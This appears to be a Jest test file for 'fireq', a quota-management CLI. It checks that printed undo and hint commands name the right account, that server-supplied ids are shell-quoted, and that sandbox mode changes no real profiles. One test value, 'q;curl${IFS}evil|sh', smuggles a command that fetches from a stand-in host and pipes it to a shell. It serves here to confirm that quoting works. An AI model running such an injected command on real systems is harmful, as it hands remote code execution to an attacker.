import {afterEach, beforeEach, describe, expect, test} from '@jest/globals'
import {mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync} from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import {command, NO_SELECTOR, quotaCommand} from '../../src/lib/domain/action.js'
import {commandLine} from '../../src/lib/render/formats/command-line.js'
import {createSandbox, type Sandbox} from '../../src/lib/sandbox/index.js'
import {startFaultServer} from '../support/fault-server.js'
import {runCli} from '../support/run-cli.js'

/** What a server could send for a quota's id. */
const HOSTILE_ID = 'q;curl${IFS}evil|sh'

const SOURCE = path.resolve('src')
const sourceFiles = () =>
  readdirSync(SOURCE, {recursive: true, encoding: 'utf8'})
    .filter(name => name.endsWith('.ts'))
    .map(name => path.join(SOURCE, name))

let home: string
let asked: Sandbox
let other: Sandbox

beforeEach(async () => {
  home = mkdtempSync(path.join(os.tmpdir(), 'fireq-printed-'))
  ;[asked, other] = await Promise.all([createSandbox({scenario: 'tier2'}), createSandbox({scenario: 'tier2'})])
  const folder = path.join(home, '.config', 'fireq', 'profiles')
  mkdirSync(folder, {recursive: true, mode: 0o700})
  const profile = JSON.stringify({apiKey: 'fw_test_other', accountId: 'globex', baseUrl: other.url})
  writeFileSync(path.join(folder, 'default.json'), profile, {mode: 0o600})
})

afterEach(() => Promise.all([asked.close(), other.close()]))

describe('a printed command reaches the account of the run that printed it', () => {
  test('the undo of a change made with a key by flag, run beside another default profile', async () => {
    const line = ['quota', 'set', 'monthly-spend-usd', '450', '--yes', '--json']
    const change = await runCli([...line, '--api-key', 'fw_test_given', '--base-url', asked.url], {home})
    expect(change.code).toBe(0)
    const {undo} = (JSON.parse(change.stdout) as {data: {undo: string}}).data
    expect(undo).toBe(`fireq quota set monthly-spend-usd 400 --yes -a acme --base-url ${asked.url}`)
    expect(undo).not.toContain('fw_test_given')
    const undone = await runCli([...undo.split(' ').slice(1), '--json'], {home})
    expect(JSON.parse(undone.stdout)).toMatchObject({account: 'acme', data: {from: 450, to: 400, applied: true}})
  })

  test("the agent guard's line names the account, or that one is to be named", async () => {
    const env = {CLAUDECODE: '1', FIREWORKS_API_KEY: 'fw_test_given'}
    // Never reached: the guard speaks before the first request.
    const line = ['quota', 'set', 'monthly-spend-usd', '450', '--base-url', 'https://gateway.example']
    const named = await runCli([...line, '-a', 'acme'], {home, env})
    expect(named.stderr).toContain('`fireq quota set monthly-spend-usd 450 -a acme --base-url https://gateway.example`')
    const bare = await runCli(line, {home, env})
    expect(bare.stderr).toContain('450 -a ACCOUNT')
    expect(bare.code).toBe(1)
  })
})

describe('a printed line runs as printed', () => {
  const hintsOf = async (argv: readonly string[], env: Record<string, string> = {}) =>
    (await runCli(argv, {home, env})).stderr

  test('beside a gateway over plain http it carries what allows that', async () => {
    const env = {CLAUDECODE: '1', FIREWORKS_API_KEY: 'fw_test_given'}
    const line = ['quota', 'set', 'monthly-spend-usd', '450', '--base-url', 'http://gateway.example', '-a', 'acme']
    expect(await hintsOf([...line, '--insecure-http'], env)).toContain(
      '-a acme --base-url http://gateway.example --insecure-http`',
    )
  })

  test('a login goes into the profile and to the gateway that were asked', async () => {
    const server = await startFaultServer([{status: 401, body: {code: 16, message: 'no such key'}}])
    const refused = await hintsOf([
      'quota',
      'list',
      '-p',
      'default',
      '--base-url',
      server.url,
      '--api-key',
      'fw_test_given',
    ])
    await server.close()
    expect(refused).toContain(`fireq auth status -p default --base-url ${server.url}`)
    expect(await hintsOf(['config', 'set', 'model', 'fw_abcdefghijklmnopqrstuvwx', '-p', 'work'])).toContain(
      'fireq auth login -p work`',
    )
  })

  test('an account whose id begins like a flag stays one word', () => {
    const selector = {...NO_SELECTOR, account: '-x'}
    expect(commandLine(['status'], selector)).toBe('fireq status --account-id=-x')
  })

  test('an id that would be cut is found in the list instead', () => {
    expect(quotaCommand('get', 'q'.repeat(500)).command).toEqual(['quota', 'list'])
  })

  test('no text of the code spells a command that asks an account without what selects it', () => {
    const spelt = sourceFiles()
      .filter(file => !/lib\/(?:help|sandbox|domain\/facts)\//.test(file))
      .flatMap(file => readFileSync(file, 'utf8').split('\n'))
      .filter(line => !/^\s*(?:\*|\/\/|\/\*)/.test(line))
      .flatMap(line => [...line.matchAll(/hints?: .*`fireq ([^`]*)`|\\`fireq ([^`]*)\\`/g)])
      .map(([, plain, escaped]) => plain ?? escaped ?? '')
      .filter(
        text => /^(?:account|history|key|limits|model|quota|spend|status|tier)/.test(text) && !/--help$/.test(text),
      )
    expect(spelt).toEqual([])
  })
})

describe('a word from a server is quoted', () => {
  test.each([
    [HOSTILE_ID, `'${HOSTILE_ID}'`],
    ["it's", String.raw`'it'\''s'`],
    ['', "''"],
    ['=ls', "'=ls'"],
    ['~root', "'~root'"],
    ['a b', "'a b'"],
    ['plain-id.1', 'plain-id.1'],
  ])('%j is printed as %s', (id, shown) => {
    expect(commandLine(command('quota', 'get', id).command, NO_SELECTOR)).toBe(`fireq quota get ${shown}`)
  })
})

describe('the sandbox changes nothing real', () => {
  test.each([[['auth', 'logout']], [['auth', 'login']], [['set-api-key', 'fw_test_x']]])(
    '%j is refused',
    async argv => {
      const {code, stderr} = await runCli(argv, {home, env: {FIREQ_SANDBOX: 'tier2'}})
      expect(code).toBe(2)
      expect(stderr).toContain('changes real profiles, and this is the sandbox tier2')
    },
  )

  test('and text says on stderr that it is simulated, a document does not', async () => {
    const text = await runCli(['quota', 'list', '--sandbox=tier2'], {home})
    expect(text.stderr).toBe('sandbox tier2: simulated data\n')
    expect((await runCli(['quota', 'list', '--sandbox=tier2', '--json'], {home})).stderr).toBe('')
    expect((await runCli(['quota', 'list', '--sandbox=tier2', '--quiet'], {home})).stderr).toBe('')
  })

  test("login asks before it replaces another account's key", async () => {
    const login = ['auth', 'login', 'fw_test_given', '--base-url', asked.url]
    const refused = await runCli(login, {home})
    expect(refused.code).toBe(2)
    expect(refused.stderr).toContain('profile default holds a key of account globex')
    expect((await runCli([...login, '--yes'], {home})).code).toBe(0)
  })
})
